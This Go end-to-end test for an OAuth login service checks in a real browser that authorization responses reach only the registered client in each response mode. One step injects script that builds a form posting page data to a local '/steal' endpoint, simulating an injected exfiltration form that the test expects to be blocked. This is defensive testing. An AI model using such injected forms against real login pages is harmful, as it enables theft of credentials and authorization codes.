package e2e

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/gatehouse-am/gatehouse/pkg/pagetext"
	"github.com/gatehouse-am/gatehouse/services/gatehouse/internal/proc"
)

// TestForms shows in a real browser where forms on our pages may lead: to the client, which sends on to a third origin, in
// every response mode; never to where a form points that somebody has put into the page. Browsers hold all redirects after
// a form to form-action.
func TestForms(t *testing.T) {
	s := newSite(t, proc.StartGatehouse(t, "--demo=false"), "forms")
	s.bob()
	var called, stolen atomic.Int32
	third := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/steal" {
			stolen.Add(1)
		}
		_, _ = w.Write([]byte(`<p id="said">home of ` + r.URL.Query().Get("from") + `</p>`))
	}))
	defer third.Close()
	client := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/cb":
			called.Add(1)
			from := "nobody"
			if r.FormValue("code") != "" {
				from = r.FormValue("state")
			}
			http.Redirect(w, r, third.URL+"/home?from="+url.QueryEscape(from), http.StatusSeeOther)
		case "/start":
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(`<p id="said">start</p>`))
		default:
			http.NotFound(w, r)
		}
	}))
	defer client.Close()
	app := s.application(
		proc.Object{"name": "client", "type": "WEB", "redirectUris": []string{client.URL + "/cb"}},
		proc.Object{
			"identityProviders": []proc.Object{{"identity": "default-idp-" + s.id}},
			"settings": proc.Object{"oauth": proc.Object{
				"grantTypes":    []string{"authorization_code"},
				"scopeSettings": []proc.Object{{"scope": "openid"}, {"scope": "email"}},
			}},
		})
	s.settle()
	authorize := func(state, mode, prompt string) string {
		return s.base + "/oauth/authorize?" + url.Values{
			"client_id": {app.id}, "redirect_uri": {client.URL + "/cb"}, "response_type": {"code"}, "scope": {"openid email"},
			"state": {state}, "response_mode": {mode}, "prompt": {prompt},
		}.Encode()
	}
	ctx := openBrowser(t)

	step(ctx, t, "login", chromedp.Navigate(client.URL+"/start"), says("start"), chromedp.Navigate(authorize("query", "query", "login consent")), chromedp.WaitVisible("#login-submit"))
	step(ctx, t, "injected", script(`const f = document.createElement("form"); f.action = "`+third.URL+`/steal"; f.method = "post"; document.body.append(f); f.submit()`))
	signIn := []chromedp.Action[chromedp.Void]{
		chromedp.SendKeys("#username", "bob"), chromedp.SendKeys("#password", bobPassword), chromedp.Click("#login-submit"),
	}
	step(ctx, t, "consent", append(signIn, chromedp.WaitVisible("#consent-allow"))...)
	step(ctx, t, "answered", chromedp.Click("#consent-allow"), says("home of query"))
	if called.Load() != 1 || stolen.Load() != 0 {
		t.Fatalf("the client was called %d times, an injected form arrived %d times", called.Load(), stolen.Load())
	}
	// The page between has left no trace, and nothing is sent again: the request asks for a new sign-in.
	step(ctx, t, "back", chromedp.NavigateBack(), chromedp.WaitVisible("#login-submit"))
	if called.Load() != 1 {
		t.Error("going back called the client again")
	}
	for _, mode := range []string{"query", "fragment", "form_post"} {
		begin := []chromedp.Action[chromedp.Void]{chromedp.Navigate(client.URL + "/start"), chromedp.Navigate(authorize(mode, mode, "login")), chromedp.WaitVisible("#login-submit")}
		end := says("home of " + mode)
		if mode == "fragment" {
			end = func(ctx context.Context, target *chromedp.Target) (chromedp.Void, error) {
				if _, err := says("home of nobody")(ctx, target); err != nil {
					return chromedp.Void{}, err
				}
				where, err := chromedp.Location()(ctx, target)
				if err == nil && !strings.Contains(where, "#") {
					err = errors.New("no fragment in " + where)
				}
				return chromedp.Void{}, err
			}
		}
		step(ctx, t, "login for "+mode, begin...)
		step(ctx, t, "answered by "+mode, append(signIn, end)...)
	}
	if called.Load() != 4 {
		t.Errorf("the client was called %d times, want 4", called.Load())
	}

	// A page that an administrator begins with works as it is, and has the style it is given.
	standard, _ := pagetext.Page("login").Standard()
	s.api.Do("POST", s.path("/forms"), proc.Object{"template": "login", "enabled": true, "content": standard, "assets": "body { color: rgb(1, 2, 3) }"})
	s.settle()
	step(ctx, t, "an administrator's page", chromedp.Navigate(authorize("query", "query", "login")), chromedp.WaitVisible("#login-submit"))
	color, err := chromedp.Run(ctx, chromedp.Evaluate[string](`getComputedStyle(document.body).color + " " + document.styleSheets.length`))
	if err != nil || color != "rgb(1, 2, 3) 1" {
		t.Errorf("the page's style: %q, %v", color, err)
	}
	step(ctx, t, "answered from an administrator's page", append(signIn, says("home of query"))...)
}

// script runs a script in the page, as one that somebody has put there would run.
func script(text string) chromedp.Action[chromedp.Void] {
	return func(ctx context.Context, target *chromedp.Target) (chromedp.Void, error) {
		_, err := chromedp.Evaluate[string]("(() => { "+text+"; return '' })()")(ctx, target)
		return chromedp.Void{}, err
	}
}
